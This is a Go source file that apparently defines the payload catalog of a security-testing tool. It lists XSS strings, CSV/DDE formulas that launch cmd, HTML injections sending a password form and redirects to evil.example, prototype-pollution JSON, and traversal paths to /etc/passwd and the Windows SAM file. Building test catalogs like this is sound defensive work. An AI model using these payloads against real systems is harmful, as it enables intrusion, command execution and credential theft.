package payload

// catalog holds every compiled-in payload, keyed by category. Entries within
// a category are judged in slice order, so the order here is part of the
// external report contract.
var catalog = map[Category][]Payload{
	CategoryXSS: {
		{Category: CategoryXSS, ID: "script-tag", Input: `<script>alert(1)</script>`, Label: "Basic script injection"},
		{Category: CategoryXSS, ID: "img-onerror", Input: `<img src=x onerror=alert(1)>`, Label: "IMG onerror"},
		{Category: CategoryXSS, ID: "svg-onload", Input: `<svg onload=alert(1)>`, Label: "SVG onload"},
		{Category: CategoryXSS, ID: "attr-breakout-double", Input: `"><script>alert(1)</script>`, Label: "Attribute breakout"},
		{Category: CategoryXSS, ID: "attr-breakout-single", Input: `'><script>alert(1)</script>`, Label: "Single quote breakout"},
		{Category: CategoryXSS, ID: "body-onload", Input: `<body onload=alert(1)>`, Label: "Body onload"},
		{Category: CategoryXSS, ID: "iframe-javascript", Input: `<iframe src="javascript:alert(1)">`, Label: "Iframe javascript"},
		{Category: CategoryXSS, ID: "anchor-javascript", Input: `<a href="javascript:alert(1)">click</a>`, Label: "Anchor javascript"},
		{Category: CategoryXSS, ID: "css-javascript", Input: `<div style="background:url(javascript:alert(1))">`, Label: "CSS javascript"},
		{Category: CategoryXSS, ID: "angular-sandbox-escape", Input: `{{constructor.constructor("alert(1)")()}}`, Label: "Angular sandbox escape"},
		{Category: CategoryXSS, ID: "template-literal", Input: `${alert(1)}`, Label: "Template literal"},
		{Category: CategoryXSS, ID: "mathml-action", Input: `<math><maction actiontype="statusline#http://evil.example">click</maction></math>`, Label: "MathML action"},
	},
	CategoryCSVInjection: {
		{Category: CategoryCSVInjection, ID: "dde-calc", Input: `=CMD|"/C calc"!A0`, Label: "Windows calc via DDE"},
		{Category: CategoryCSVInjection, ID: "hyperlink", Input: `=HYPERLINK("http://evil.example")`, Label: "Hyperlink injection"},
		{Category: CategoryCSVInjection, ID: "plus-formula", Input: `+cmd|" /C notepad"!"A1"`, Label: "Plus formula"},
		{Category: CategoryCSVInjection, ID: "minus-formula", Input: `-cmd|" /C notepad"!"A1"`, Label: "Minus formula"},
		{Category: CategoryCSVInjection, ID: "at-formula", Input: `@SUM(1+1)*cmd|" /C calc"!A0`, Label: "At formula"},
		{Category: CategoryCSVInjection, ID: "simple-formula", Input: `=1+1`, Label: "Simple formula"},
	},
	CategoryPrototypePollution: {
		{Category: CategoryPrototypePollution, ID: "proto-property", Input: `{"__proto__": {"admin": true}}`, Label: "__proto__ injection"},
		{Category: CategoryPrototypePollution, ID: "constructor-prototype", Input: `{"constructor": {"prototype": {"admin": true}}}`, Label: "Constructor pollution"},
		{Category: CategoryPrototypePollution, ID: "tostring-override", Input: `{"__proto__": {"toString": "pwned"}}`, Label: "toString pollution"},
	},
	// ReDoS entries are shape probes, not injected inputs: each one names a
	// nested-quantifier shape the evaluator searches for in the document's
	// own regex literals.
	CategoryReDoS: {
		{Category: CategoryReDoS, ID: "nested-plus-plus", Input: `(x+)+`, Label: "Quantified group under +"},
		{Category: CategoryReDoS, ID: "nested-star-star", Input: `(x*)*`, Label: "Quantified group under *"},
		{Category: CategoryReDoS, ID: "nested-plus-star", Input: `(x+)*`, Label: "Plus group under *"},
		{Category: CategoryReDoS, ID: "nested-star-plus", Input: `(x*)+`, Label: "Star group under +"},
	},
	CategoryTemplateInjection: {
		{Category: CategoryTemplateInjection, ID: "es6-literal", Input: `${7*7}`, Label: "ES6 template literal"},
		{Category: CategoryTemplateInjection, ID: "mustache", Input: `{{7*7}}`, Label: "Mustache/Angular"},
		{Category: CategoryTemplateInjection, ID: "erb-style", Input: `#{7*7}`, Label: "Ruby ERB style"},
		{Category: CategoryTemplateInjection, ID: "sandbox-escape", Input: `${constructor.constructor("return this")()}`, Label: "Sandbox escape"},
	},
	CategoryJSONInjection: {
		{Category: CategoryJSONInjection, ID: "extra-property", Input: `{"a":"b","admin":true}`, Label: "Extra property injection"},
		{Category: CategoryJSONInjection, ID: "comment-smuggle", Input: `{"a":"b"}/**/{"admin":true}`, Label: "Comment injection"},
		{Category: CategoryJSONInjection, ID: "unicode-escape-markup", Input: `{"a":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`, Label: "Unicode escape XSS"},
	},
	CategoryHTMLInjection: {
		{Category: CategoryHTMLInjection, ID: "clickjack-div", Input: `<div onclick="alert(1)">click me</div>`, Label: "Clickjacking div"},
		{Category: CategoryHTMLInjection, ID: "form-hijack", Input: `<form action="http://evil.example"><input name="password"></form>`, Label: "Form hijack"},
		{Category: CategoryHTMLInjection, ID: "base-tag", Input: `<base href="http://evil.example">`, Label: "Base tag injection"},
		{Category: CategoryHTMLInjection, ID: "meta-refresh", Input: `<meta http-equiv="refresh" content="0;url=http://evil.example">`, Label: "Meta refresh"},
		{Category: CategoryHTMLInjection, ID: "html-import", Input: `<link rel="import" href="http://evil.example/evil.html">`, Label: "HTML import"},
	},
	CategoryPathTraversal: {
		{Category: CategoryPathTraversal, ID: "unix-traversal", Input: `../../../etc/passwd`, Label: "Unix path traversal"},
		{Category: CategoryPathTraversal, ID: "windows-traversal", Input: `..\..\..\windows\system32\config\sam`, Label: "Windows traversal"},
		{Category: CategoryPathTraversal, ID: "doubled-traversal", Input: `....//....//....//etc/passwd`, Label: "Double encoding"},
		{Category: CategoryPathTraversal, ID: "percent-encoded", Input: `%2e%2e%2f%2e%2e%2f`, Label: "URL encoded traversal"},
	},
	CategoryNumericLimit: {
		{Category: CategoryNumericLimit, ID: "large-integer", Input: `9999999999999999999999`, Label: "Large integer"},
		{Category: CategoryNumericLimit, ID: "large-negative", Input: `-9999999999999999999999`, Label: "Large negative"},
		{Category: CategoryNumericLimit, ID: "near-infinity", Input: `1e308`, Label: "Near infinity"},
		{Category: CategoryNumericLimit, ID: "near-zero", Input: `1e-324`, Label: "Near zero"},
		{Category: CategoryNumericLimit, ID: "nan", Input: `NaN`, Label: "Not a Number"},
		{Category: CategoryNumericLimit, ID: "infinity", Input: `Infinity`, Label: "Infinity value"},
	},
	CategoryDOMClobbering: {
		{Category: CategoryDOMClobbering, ID: "clobber-createelement", Input: `<img name="createElement">`, Label: "Override createElement"},
		{Category: CategoryDOMClobbering, ID: "clobber-document", Input: `<form id="document"><input name="cookie"></form>`, Label: "Document property"},
		{Category: CategoryDOMClobbering, ID: "clobber-location", Input: `<img name="location" src="//evil.example">`, Label: "Location override"},
	},
	CategoryUnicodeExploit: {
		{Category: CategoryUnicodeExploit, ID: "null-byte", Input: "\x00", Label: "Null byte"},
		{Category: CategoryUnicodeExploit, ID: "zero-width-space", Input: "\u200B", Label: "Zero-width space"},
		{Category: CategoryUnicodeExploit, ID: "bom", Input: "\uFEFF", Label: "BOM character"},
		{Category: CategoryUnicodeExploit, ID: "rtl-override", Input: "\u202E", Label: "RTL override (text direction)"},
		{Category: CategoryUnicodeExploit, ID: "fullwidth-brackets", Input: "＜＞", Label: "Fullwidth angle brackets"},
		{Category: CategoryUnicodeExploit, ID: "fullwidth-script-tag", Input: "＜script＞", Label: "Fullwidth script tag"},
	},
}
